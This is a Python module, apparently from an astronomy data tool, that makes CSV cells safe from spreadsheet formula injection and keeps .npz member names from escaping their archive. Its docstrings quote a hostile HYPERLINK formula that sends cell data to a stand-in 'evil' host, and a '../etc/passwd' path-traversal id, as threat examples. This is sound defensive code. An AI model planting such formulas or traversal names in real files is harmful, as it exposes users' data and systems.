"""Outputs that are safe to open: CSV cells a spreadsheet will not run, archive member names that
stay inside their archive.

Object ids, band names and reasons come from FITS headers and catalogs, that is, from strangers. A
cell such as ``=HYPERLINK("http://evil/?"&A1)`` in ``candidates.csv`` runs as a formula when a
scientist opens the file in a spreadsheet; an object id such as ``../../x`` names a file outside
the folder ``attributions.npz`` is unpacked into.
"""

from __future__ import annotations

import hashlib
import re
from pathlib import Path
from typing import Any, MutableSet

import numpy as np
import pandas as pd

__all__ = ["spreadsheet_safe", "safe_npz_key", "write_table", "FORMULA_TRIGGERS"]

# OWASP, "CSV Injection": cells starting with these are taken as formulas (tab and carriage
# return too, since some spreadsheets strip them and read what follows).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# a plain decimal number, which every spreadsheet reads as a number and never as a formula
_NUMBER = re.compile(r"[+-]?([0-9]+\.?[0-9]*|\.[0-9]+)([eE][+-]?[0-9]+)?")
_KEY_CHARS = re.compile(r"[^A-Za-z0-9._-]")
_WINDOWS_RESERVED = {"CON", "PRN", "AUX", "NUL", *(f"COM{i}" for i in range(1, 10)), *(f"LPT{i}" for i in range(1, 10))}
_MAX_KEY = 100


def _cell(value: Any) -> Any:
    """One cell made safe: a text starting with a formula trigger gets a leading apostrophe (shown
    by no spreadsheet, kept as text by all), unless it is a plain number such as ``-1.5``."""
    if isinstance(value, (bytes, np.bytes_)):
        value = bytes(value).decode("utf-8", "backslashreplace")
    if not isinstance(value, str):
        return value  # numbers, NaN, None, booleans: written as numbers, never run
    if value.startswith(FORMULA_TRIGGERS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def spreadsheet_safe(table):
    """A copy of `table` whose text cells a spreadsheet will not run as formulas.

    Follows OWASP's CSV-injection guidance: a text cell starting with ``=``, ``+``, ``-``, ``@``,
    a tab or a carriage return is prefixed with ``'``. Numeric columns and cells, and texts that
    are plain numbers (``-1.5``, ``+3e-2``), are left as they are, so negative scores stay numbers.
    Column names of a DataFrame are made safe as well (they are the CSV's first row).

    Arguments:
        table: a pandas DataFrame or Series, a numpy array, a list/tuple of cells, or one cell.

    Returns:
        The same kind of object (DataFrame → DataFrame, array → object array, list → list, str → str).

    Example:
        >>> spreadsheet_safe(["=1+2", "-1.5", "@SUM(A1)", "NGC 4993", -2.0])
        ["'=1+2", '-1.5', "'@SUM(A1)", 'NGC 4993', -2.0]
    """
    if isinstance(table, pd.DataFrame):
        out = table.copy()
        for col in out.columns:
            if not (pd.api.types.is_numeric_dtype(out[col]) or pd.api.types.is_bool_dtype(out[col])):
                out[col] = out[col].map(_cell).astype(object)
        out.columns = [_cell(c) for c in out.columns]
        return out
    if isinstance(table, pd.Series):
        if pd.api.types.is_numeric_dtype(table) or pd.api.types.is_bool_dtype(table):
            return table.copy()
        return table.map(_cell).astype(object).rename(_cell(table.name))
    if isinstance(table, np.ndarray):
        if table.dtype.kind in "biufc":
            return table.copy()
        return np.vectorize(_cell, otypes=[object])(table) if table.size else table.astype(object)
    if isinstance(table, (list, tuple)):
        return type(table)(_cell(v) for v in table)
    return _cell(table)


def write_table(df: pd.DataFrame, path: str | Path) -> Path:
    """Write a table gsafe hands to people: Parquet (``.parquet``) exactly as it is, anything else
    as CSV through :func:`spreadsheet_safe`; the parent folder is made. Returns the path."""
    path = Path(path)
    path.parent.mkdir(parents=True, exist_ok=True)
    if path.suffix.lower() == ".parquet":
        df.to_parquet(path, index=False)
    else:
        spreadsheet_safe(df).to_csv(path, index=False)
    return path


def safe_npz_key(object_id: Any, taken: MutableSet[str]) -> str:
    """A member name for `object_id` in an ``.npz`` archive, unique among `taken` (and added to it).

    The id itself when it is already a safe name (letters, digits, ``.``, ``_``, ``-``; not
    starting with ``.`` or ``-``; at most 100 characters; not a Windows device name such as
    ``CON``); otherwise its safe characters (others become ``_``) and 8 hex digits of a hash of
    the whole id, so two ids that clean to the same text still get different, stable names. The
    member is ``<key>.npy``: no path separator, no ``..``, no NUL can reach the zip.

    Arguments:
        object_id: the object's id (any text; bytes are decoded as UTF-8).
        taken: keys already used in this archive; the returned key is added.

    Example:
        >>> taken = set()
        >>> safe_npz_key("obj42", taken), safe_npz_key("../etc/passwd", taken)
        ('obj42', '_etc_passwd-42540b52')
    """
    text = object_id.decode("utf-8", "backslashreplace") if isinstance(object_id, bytes) else str(object_id)
    cleaned = _KEY_CHARS.sub("_", text)[:_MAX_KEY]
    safe = (cleaned == text and cleaned and not cleaned.startswith((".", "-"))
            and cleaned.split(".")[0].upper() not in _WINDOWS_RESERVED)
    key = cleaned if safe else None
    if key is None or key in taken:
        digest = hashlib.blake2b(text.encode("utf-8", "surrogatepass"), digest_size=4).hexdigest()
        stem = cleaned.lstrip(".-")[: _MAX_KEY - 9] or "id"
        key = f"{stem}-{digest}"
        n = 2
        while key in taken:  # the same id twice, or a hash collision: count on
            key = f"{stem}-{digest}-{n}"
            n += 1
    taken.add(key)
    return key
